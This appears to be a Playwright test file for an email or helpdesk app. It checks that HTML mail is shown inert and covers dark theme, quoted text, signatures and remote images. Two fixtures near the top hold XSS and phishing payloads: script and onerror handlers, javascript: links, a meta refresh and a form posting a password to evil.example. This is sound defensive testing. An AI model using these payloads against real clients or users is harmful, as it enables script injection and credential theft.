"""The HTML of a mail is shown, and can do nothing."""

import base64

import pytest
from playwright.async_api import FrameLocator, Route, expect

from tests.browser.site import Site
from tests.browser.window import OpenWindow, Window
from tests.conftest import Database
from tests.ingest.posts import postmark

HOSTILE = """
<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0; url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example/y.css";</style></head>
<body onload="top.hacked = 1"><p id="app">Dear customer</p>
<script>top.hacked = 1; fetch("https://evil.example/script")</script>
<img src="https://evil.example/pixel.gif" alt="Logo" onerror="top.hacked = 1">
<img src="x" onerror="top.hacked = 1"><svg onload="top.hacked = 1"></svg>
<div style="position:fixed;inset:0;background:url(https://evil.example/bg.png);z-index:99">Log in again</div>
<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>
<iframe src="https://evil.example/"></iframe><a href="javascript:top.hacked = 1">Click me</a></body></html>
"""
#: What a hole in the sanitiser would let through: it is put where sanitised HTML is kept.
UNSANITISED = """<body onload="top.hacked = 1"><p>Dear customer</p><script>top.hacked = 1</script>
<img src="https://evil.example/pixel.gif" onerror="top.hacked = 1"><img src="/x" onerror="top.hacked = 1">
<div style="position:fixed;inset:0;height:100vh">Log in again</div><meta http-equiv="refresh" content="0; url=/login">
<form action="/api/v1/logout" method="post"><button>Send</button></form><iframe src="/login"></iframe>
<link rel="stylesheet" href="https://evil.example/x.css"><a href="javascript:top.hacked = 1">Click me</a></body>"""
PIXEL = "data:image/gif;base64,R0lGODlhAQABAIAAAAUEBAAAACwAAAAAAQABAAACAkQBADs="
REFUSED_BY_POLICY = "Content Security Policy|sandbox|Refused to|Blocked|violates"


async def opened(window: Window, site: Site, html: str) -> FrameLocator:
    """Post a mail and open it; returns its frame."""
    await site.post(postmark(site.tenant.integration("postmark"), text_body="Plain words", html_body=html))
    await window.open("Order 1043")
    frame = window.thread.locator("iframe.mail-frame")
    await expect(frame).not_to_have_css("height", "0px")
    return window.thread.frame_locator("iframe.mail-frame")


async def harmless(window: Window, site: Site, frame: FrameLocator) -> None:
    """Fail if a mail ran anything, or went anywhere."""
    assert await window.page.evaluate("window.hacked") is None
    assert await window.page.evaluate("document.querySelector('iframe').contentWindow.hacked") is None
    await expect(window.page).to_have_url(f"{site.url}/c/{window.page.url.rpartition('/')[2]}")
    for tag in ("script", "svg[onload]", "base"):
        assert await frame.locator(tag).count() == 0, tag


async def test_a_hostile_mail_is_inert(window: Window, site: Site) -> None:
    frame = await opened(window, site, HOSTILE)
    await expect(frame.get_by_text("Dear customer")).to_be_visible()
    await expect(frame.get_by_text("Logo")).to_be_visible()
    await expect(window.page.get_by_text("Images from elsewhere are not loaded.")).to_be_visible()
    await expect(frame.locator("form, input, iframe, script, img")).to_have_count(0)
    await frame.get_by_text("Click me").click()
    await expect(frame.get_by_text("Log in again")).to_have_css("position", "static")
    await harmless(window, site, frame)


async def test_a_mail_that_got_past_the_sanitiser_is_inert_too(window: Window, site: Site, database: Database) -> None:
    window.complaints.expected.append(REFUSED_BY_POLICY)
    await site.post(postmark(site.tenant.integration("postmark"), html_body="<p>Hello</p>"))
    await expect(window.row("Order 1043")).to_be_visible()
    await database.fetch("UPDATE message_html SET html = $1", UNSANITISED)
    await window.open("Order 1043")
    frame = window.thread.frame_locator("iframe.mail-frame")
    await expect(frame.get_by_text("Dear customer")).to_be_visible()
    await frame.get_by_text("Click me").click()
    place = window.page.url
    await frame.get_by_text("Click me").evaluate("a => { a.href = '/settings'; a.target = '_top'; a.click(); }")
    await frame.get_by_role("button", name="Send").click()
    await expect(frame.get_by_text("Log in again")).to_have_css("position", "static")
    assert await window.page.evaluate("window.hacked") is None
    await expect(window.page.get_by_role("heading", name="Jane Doe").first).to_be_visible()
    await expect(window.page).to_have_url(place)
    await window.page.reload()
    await window.live()  # nobody was logged out


async def test_the_styles_of_a_mail_are_shown_on_white_and_its_frame_fits(open_window: OpenWindow, site: Site) -> None:
    window = await open_window(dark=True)
    frame = await opened(
        window,
        site,
        '<div style="background-color:#102030;color:#ffffff;padding:20px"><p style="font-size:30px">Big</p></div>'
        '<table bgcolor="#eeeeee"><tr><td style="height:700px">Tall</td></tr></table>',
    )
    await expect(frame.get_by_text("Big")).to_have_css("font-size", "30px")
    await expect(frame.get_by_text("Big")).to_have_css("color", "rgb(255, 255, 255)")
    await expect(window.thread.locator("iframe")).to_have_css("background-color", "rgb(255, 255, 255)")
    shown = window.thread.locator("iframe")
    content = await frame.locator("body").evaluate("body => body.getBoundingClientRect().height")
    assert content > 700
    assert await shown.evaluate("frame => frame.getBoundingClientRect().height") == pytest.approx(content, abs=1)


async def test_a_plain_mail_follows_the_theme(open_window: OpenWindow, site: Site) -> None:
    window = await open_window(dark=True)
    frame = await opened(window, site, "<p>Just words</p>")
    await expect(frame.locator("body")).to_have_css("color", "rgb(230, 235, 238)")
    await window.page.emulate_media(color_scheme="light")
    await expect(frame.locator("body")).to_have_css("color", "rgb(21, 27, 31)")


async def test_a_picture_that_came_along_has_a_place_and_a_small_one_inside_is_shown(
    window: Window, site: Site, database: Database
) -> None:
    await site.post(postmark(site.tenant.integration("postmark"), html_body="<p>Hello</p>"))
    await expect(window.row("Order 1043")).to_be_visible()
    html = f'<p>Hello</p><img src="attachments/plan%40x" alt="Floor plan"><img src="{PIXEL}" alt="">'
    await database.fetch("UPDATE message_html SET html = $1", html)
    await window.open("Order 1043")
    frame = window.thread.frame_locator("iframe.mail-frame")
    await expect(frame.get_by_text("Floor plan (picture, not fetched yet)")).to_be_visible()
    await expect(frame.locator("img")).to_have_count(1)
    assert await frame.locator("img").evaluate("image => image.naturalWidth") == 1


async def test_what_a_mail_quotes_is_folded(window: Window, site: Site) -> None:
    frame = await opened(window, site, "<p>Yes, please</p><blockquote>Shall we send it?</blockquote>")
    await expect(frame.get_by_text("Yes, please")).to_be_visible()
    await expect(frame.get_by_text("Shall we send it?")).to_be_hidden()
    await window.thread.get_by_role("button", name="Show quoted text").click()
    await expect(frame.get_by_text("Shall we send it?")).to_be_visible()


async def test_a_mail_whose_html_cannot_be_had_is_shown_as_text(window: Window, site: Site, database: Database) -> None:
    window.complaints.expected += ["status of 404", "frame-ancestors"]
    await site.post(
        postmark(site.tenant.integration("postmark"), text_body="Plain words", html_body="<p>Formatted words</p>")
    )
    await expect(window.row("Order 1043")).to_be_visible()
    await database.fetch("DELETE FROM message_html")
    await window.open("Order 1043")
    await expect(window.page.get_by_text("The formatted mail could not be loaded.")).to_be_visible()
    await expect(window.message("Plain words")).to_be_visible()


PICTURE = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


async def test_pictures_from_elsewhere_show_once_somebody_asks(window: Window, site: Site) -> None:
    asked: list[str] = []

    async def answer(route: Route) -> None:
        asked.append(route.request.url)
        found = route.request.url.endswith("number=0")
        await route.fulfill(status=200 if found else 404, body=PICTURE if found else b"", content_type="image/png")

    await window.page.route("**/picture?number=*", answer)
    window.complaints.expected.append("404")
    frame = await opened(
        window,
        site,
        '<p>Hello</p><img src="https://pictures.example/a.png" alt="Sofa" width="40">'
        '<img src="https://pictures.example/gone.png" alt="Lamp" width="40">',
    )
    await expect(frame.get_by_text("Sofa")).to_be_visible()
    assert asked == []
    await window.thread.get_by_role("button", name="Show images").click()
    picture = frame.get_by_role("img", name="Sofa")
    await expect(picture).to_be_visible()
    assert await picture.evaluate("image => image.complete && image.naturalWidth") == 1
    await expect(frame.get_by_text("Lamp (picture, can't be loaded)")).to_be_visible()
    await expect(window.thread.get_by_role("button", name="Show images")).to_have_count(0)
    assert all(url.startswith(site.url) for url in asked)


async def test_a_signature_is_folded_away(window: Window, site: Site) -> None:
    frame = await opened(window, site, '<p>See you then.</p><div class="gmail_signature">Jane Doe, 2nd floor</div>')
    await expect(frame.get_by_text("See you then.")).to_be_visible()
    await expect(frame.get_by_text("2nd floor")).to_be_hidden()
    await window.thread.get_by_role("button", name="Show signature").click()
    await expect(frame.get_by_text("2nd floor")).to_be_visible()
